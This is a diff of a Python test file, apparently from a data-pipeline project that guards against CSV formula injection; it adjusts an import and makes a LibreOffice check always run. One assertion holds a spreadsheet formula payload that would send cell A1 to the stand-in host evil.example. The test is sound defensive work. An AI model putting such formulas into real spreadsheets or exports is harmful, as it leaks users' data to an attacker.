@@ -22,7 +22,7 @@ import pytest
 from click.testing import CliRunner
 from playwright.sync_api import Dialog, Page, sync_playwright
 
-from detector.cli import main
+from detector.cli.main import main
 from detector.config import Config
 from detector.pipeline.daily import run_daily
 from detector.report.html import SCRIPT
@@ -129,12 +129,8 @@ def test_parquet_twins_keep_the_values_unaltered(hostile_run: tuple[Path, pd.Dat
     assert flags["label"].str.startswith('=HYPERLINK("http://evil.example/?x="&A1,"click")').any()
 
 
-@pytest.mark.skipif(
-    not Path("/usr/bin/soffice").is_file(),
-    reason="LibreOffice is not installed (apt-get install -y libreoffice-calc); not needed in CI",
-)
 def test_libreoffice_opens_the_csvs_without_formulas(
-    hostile_run: tuple[Path, pd.DataFrame], tmp_path: Path
+    hostile_run: tuple[Path, pd.DataFrame], tmp_path: Path, soffice: str
 ) -> None:
     out, _ = hostile_run
     script = [sys.executable, str(ROOT / "scripts" / "check_csv_formulas.py")]
